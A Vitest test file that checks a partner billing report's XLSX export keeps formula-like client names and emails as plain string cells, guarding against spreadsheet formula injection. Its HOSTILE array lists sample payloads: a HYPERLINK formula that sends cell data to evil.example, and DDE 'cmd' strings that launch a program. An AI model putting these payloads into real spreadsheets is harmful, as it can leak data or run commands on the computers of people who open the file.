/**
 * The partner report's XLSX, read back byte for byte (unzipped with Node's zlib, the sheet XML
 * parsed as written): text from the platform that starts like a formula (=, +, -, @, a tab or a
 * carriage return) is a string cell, never a formula, and keeps its exact text; amounts are
 * number cells.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { monthTotals } from '../../../electron/core/partner/report/query';
import { buildWorkbook } from '../../../electron/core/partner/report/workbook';
import { makeCtx, putClient, putTx, type TestCtx } from './helpers';
import { sharedStrings, sheetCells, unzip } from '../../support/unzip';

let ctx: TestCtx;
afterEach(() => ctx?.cleanup());

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+7 (495) 000-00-00',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('the partner report XLSX, read back from its bytes', () => {
  it('platform text is always a string cell with its exact text; amounts are numbers', async () => {
    ctx = makeCtx();
    HOSTILE.forEach((name, i) => {
      putClient(ctx.db, { id: `c${i}`, payment: 0, name, email: `=cmd${i}@example.ru` });
      putTx(ctx.db, { clientId: `c${i}`, at: '2026-02-10T12:00:00Z', amount: 12_345 + i, service: 'compute' });
    });
    const totals = monthTotals(ctx.db, '2026-02', 'Europe/Moscow');
    expect(totals).toHaveLength(HOSTILE.length);
    const files = unzip(await buildWorkbook(totals, '2026-02', 'Europe/Moscow', 'en'));
    const sheets = [...files.keys()].filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
    expect(sheets.length).toBe(HOSTILE.length + 1);

    const shared = sharedStrings(files.get('xl/sharedStrings.xml')?.toString('utf8') ?? '');
    const all = sheets.flatMap((s) => sheetCells(files.get(s)!.toString('utf8'), shared));
    // No formula anywhere in the file.
    expect(all.filter((c) => c.formula)).toEqual([]);
    // Each hostile name and email is found, exactly, only in string cells.
    for (const [i, name] of HOSTILE.entries()) {
      for (const text of [name, `=cmd${i}@example.ru`]) {
        const cells = all.filter((c) => c.value === text);
        expect(cells.length, text).toBeGreaterThan(0);
        for (const c of cells) expect(['inlineStr', 's'], `${text} at ${c.ref}`).toContain(c.type);
      }
    }
    // Amounts: number cells (no t, or t="n") holding the ledger's figures in major units.
    const summary = sheetCells(files.get('xl/worksheets/sheet1.xml')!.toString('utf8'), shared);
    const numbers = summary.filter((c) => c.type === '' || c.type === 'n').map((c) => Number(c.value));
    for (let i = 0; i < HOSTILE.length; i++) expect(numbers).toContain((12_345 + i) / 100);
    expect(numbers.every((n) => Number.isFinite(n))).toBe(true);
  });

  it('the reader sees a formula and a number when there is one (control)', () => {
    const xml =
      '<sheetData><row r="1"><c r="A1"><f>1+1</f><v>2</v></c><c r="B1" t="inlineStr"><is><t>=x &amp; y</t></is></c><c r="C1"><v>1.5</v></c><c r="D1" t="s"><v>1</v></c><c r="E1" t="str"><v>=z</v></c></row></sheetData>';
    expect(sheetCells(xml, sharedStrings('<sst><si><t>a</t></si><si><t xml:space="preserve">\t=b</t></si></sst>'))).toEqual([
      { ref: 'A1', type: '', value: '2', formula: true },
      { ref: 'B1', type: 'inlineStr', value: '=x & y', formula: false },
      { ref: 'C1', type: '', value: '1.5', formula: false },
      { ref: 'D1', type: 's', value: '\t=b', formula: false },
      { ref: 'E1', type: 'str', value: '=z', formula: false },
    ]);
  });
});
